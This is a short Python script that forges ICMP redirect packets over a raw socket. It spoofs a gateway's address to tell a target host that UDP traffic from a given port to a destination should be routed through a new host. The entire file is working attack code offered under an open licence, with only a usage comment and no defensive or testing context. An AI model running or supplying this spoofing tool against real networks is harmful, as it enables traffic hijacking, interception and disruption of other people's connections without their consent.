# SPDX-License-Identifier: MIT
# redirect.py TO GATEWAY NEW HOST PORT DESTINATION: sends TO an ICMP redirect of GATEWAY: what HOST sends from the UDP
# port PORT to DESTINATION shall go to NEW.
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source, target, protocol, payload):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


to, gateway, new, host, port, destination = sys.argv[1:]
sent = packet(host, destination, socket.IPPROTO_UDP, struct.pack("!HHHH", int(port), 9, 8, 0))
for_host = 1
icmp = struct.pack("!BBH4s", 5, for_host, 0, socket.inet_aton(new)) + sent
icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
out.sendto(packet(gateway, to, socket.IPPROTO_ICMP, icmp), (to, 0))
